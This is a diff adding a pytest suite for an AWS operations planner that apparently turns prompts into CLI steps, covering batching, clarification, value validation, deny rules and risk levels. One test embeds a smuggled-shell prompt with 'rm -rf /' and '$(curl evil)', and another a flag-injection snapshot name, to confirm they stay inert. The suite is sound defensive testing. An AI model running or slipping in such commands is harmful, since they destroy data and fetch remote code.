@@ -1,0 +1,148 @@
+"""Planner behaviour beyond the evaluation set: multi-target steps, ambiguity, values, deny rules,
+and prompts that try to smuggle in targets or flags."""
+
+from __future__ import annotations
+
+import copy
+
+import pytest
+
+from agent.protocol import PlanRequest
+
+
+def ec2(name: str, instance_id: str, account="111111111111", region="us-west-2", state="running", env="production"):
+    return {"resource_type": "ec2_instance", "resource_id": instance_id, "name": name, "account_id": account,
+            "region": region, "current_state": state, "tags": {"Name": name, "env": env}}
+
+
+def plan(planner, prompt, resources, **context):
+    return planner.plan(PlanRequest(prompt=prompt, identified_resources=resources, user_context=context))
+
+
+def test_two_instances_in_one_region_make_one_batched_call(planner):
+    p = plan(planner, "reboot web-server-1 and web-server-2", [ec2("web-server-1", "i-1"), ec2("web-server-2", "i-2")])
+    assert [s.operation for s in p.script.steps] == ["RebootInstances"]
+    assert p.script.steps[0].parameters == {"InstanceIds": ["i-1", "i-2"]}
+
+
+def test_targets_in_two_regions_make_one_call_per_region(planner):
+    p = plan(planner, "reboot web-server-1 and web-server-9",
+             [ec2("web-server-1", "i-1"), ec2("web-server-9", "i-9", region="eu-west-1")])
+    assert sorted(s.region for s in p.script.steps) == ["eu-west-1", "us-west-2"]
+    assert all(s.command.count("--region") == 1 for s in p.script.steps)
+
+
+def test_rds_needs_one_call_per_instance(planner, seed_resource):
+    other = {**copy.deepcopy(seed_resource), "resource_id": "pg-instance-main2", "name": "pg-instance-main2",
+             "arn": "arn:aws:rds:us-west-2:111111111111:db:pg-instance-main2"}
+    p = plan(planner, "stop pg-instance-main1 and pg-instance-main2", [seed_resource, other])
+    assert [s.parameters["DBInstanceIdentifier"] for s in p.script.steps] == ["pg-instance-main1", "pg-instance-main2"]
+
+
+def test_same_name_in_two_accounts_is_a_question_and_a_hint_settles_it(planner):
+    resources = [ec2("web-server-1", "i-1"), ec2("web-server-1", "i-7", account="222222222222", env="staging")]
+    accounts = {"aws_accounts": [{"account_id": "111111111111", "name": "production"},
+                                 {"account_id": "222222222222", "name": "staging"}]}
+    asked = plan(planner, "stop web-server-1", resources, **accounts)
+    assert asked.clarification and len(asked.clarification.candidates) == 2
+    assert asked.script.steps == [] and asked.approval_required is False
+    settled = plan(planner, "stop web-server-1 in staging", resources, **accounts)
+    assert settled.clarification is None
+    assert settled.script.steps[0].parameters == {"InstanceIds": ["i-7"]}
+
+
+def test_nothing_identified_is_a_question_never_an_invented_identifier(planner):
+    p = plan(planner, "stop pg-instance-main7", [])
+    assert p.clarification is not None and p.script.steps == []
+    assert "pg-instance-main7" not in p.model_dump_json(include={"script"})
+
+
+def test_not_an_aws_request_is_a_question(planner, seed_resource):
+    p = plan(planner, "order me a pizza with extra cheese", [seed_resource])
+    assert p.clarification is not None and p.script.steps == []
+
+
+def test_values_from_the_prompt_are_validated(planner):
+    asg = {"resource_type": "autoscaling_group", "resource_id": "web-asg", "account_id": "111111111111",
+           "region": "us-east-1", "tags": {"env": "dev"}}
+    p = plan(planner, "scale web-asg to 3", [asg])
+    assert p.script.steps[0].parameters["DesiredCapacity"] == 3
+    missing = plan(planner, "scale web-asg", [asg])
+    assert missing.clarification is not None and missing.script.steps == []
+    too_many = plan(planner, "scale web-asg to 99999999", [asg])
+    assert too_many.clarification is not None and "at most" in too_many.clarification.question
+
+
+def test_a_snapshot_name_that_breaks_the_pattern_is_asked_again(planner, seed_resource):
+    p = plan(planner, "snapshot pg-instance-main1 named '--profile admin'", [seed_resource])
+    assert p.clarification is not None and p.script.steps == []
+
+
+def test_smuggled_flags_and_shell_stay_inert(planner, seed_resource):
+    p = plan(planner, "Stop pg-instance-main1 --profile admin; rm -rf / && $(curl evil)", [seed_resource])
+    step = p.script.steps[0]
+    assert step.argv == ["aws", "rds", "stop-db-instance", "--db-instance-identifier", "pg-instance-main1",
+                         "--region", "us-west-2"]
+
+
+def test_a_region_in_the_text_never_moves_a_target(planner, seed_resource):
+    p = plan(planner, "Stop pg-instance-main1 in eu-central-1", [seed_resource])
+    assert p.script.steps == [] and p.clarification is not None
+
+
+def test_unicode_lookalike_name_is_not_the_resource(planner, seed_resource):
+    # Cyrillic 'р' and 'е' in the name: it is not pg-instance-main1, and only one DB was identified,
+    # so the planner may target it only as the client's own identification, never by the look-alike.
+    p = plan(planner, "Stop рg-instance-main1", [])
+    assert p.clarification is not None and p.script.steps == []
+
+
+def test_read_only_needs_no_approval(planner, seed_resource):
+    p = plan(planner, "describe pg-instance-main1", [seed_resource])
+    assert p.classification.playbook == "aws_rds_describe_instance"
+    assert p.approval_required is False and p.risk_assessment.level == "low"
+    assert all(not s.mutating for s in p.script.steps)
+
+
+def test_deny_rule_beats_approval(planner, seed_resource):
+    rule = {"reason": "no deletes in production", "operations": ["Delete*"], "production": True}
+    p = plan(planner, "delete pg-instance-main1", [seed_resource], deny_rules=[rule])
+    assert p.risk_assessment.level == "critical"
+    assert p.risk_assessment.denied and p.risk_assessment.denied_reasons == ["no deletes in production"]
+    assert p.script.steps[0].denied_by == ["no deletes in production"]
+    assert "DENIED" in p.explain_plan
+
+
+def test_deny_rule_scoped_to_another_account_does_not_fire(planner, seed_resource):
+    rule = {"reason": "staging is frozen", "accounts": ["222222222222"]}
+    p = plan(planner, "stop pg-instance-main1", [seed_resource], deny_rules=[rule])
+    assert not p.risk_assessment.denied
+
+
+def test_server_side_deny_rules_apply_too(stack, seed_resource):
+    from agent.protocol import DenyRule
+
+    stack.deny_rules.append(DenyRule(reason="change freeze", playbooks=["aws_rds_*"]))
+    try:
+        p = stack.planner("server").plan(PlanRequest(prompt="reboot pg-instance-main1", identified_resources=[seed_resource]))
+        assert p.risk_assessment.denied_reasons == ["change freeze"]
+    finally:
+        stack.deny_rules.clear()
+
+
+@pytest.mark.parametrize("count, level", [(1, "medium"), (5, "high")])
+def test_scope_raises_risk(planner, count, level):
+    resources = [ec2(f"node-{i}", f"i-{i}") for i in range(count)]
+    prompt = "reboot " + " and ".join(f"node-{i}" for i in range(count))
+    assert plan(planner, prompt, resources).risk_assessment.level == level
+
+
+def test_stale_state_blocks_with_a_reason(planner):
+    p = plan(planner, "start web-server-1", [ec2("web-server-1", "i-1", state="running")])
+    assert p.script.steps == [] and any("only a stopped" in w or "running" in w for w in p.warnings)
+
+
+def test_long_prompt_is_handled(planner, seed_resource):
+    p = plan(planner, "Stop pg-instance-main1. " + "Context: " + "blah " * 700, [seed_resource])
+    assert p.classification.playbook == "aws_rds_stop_instance"
+    assert any("long prompt" in w for w in p.warnings)
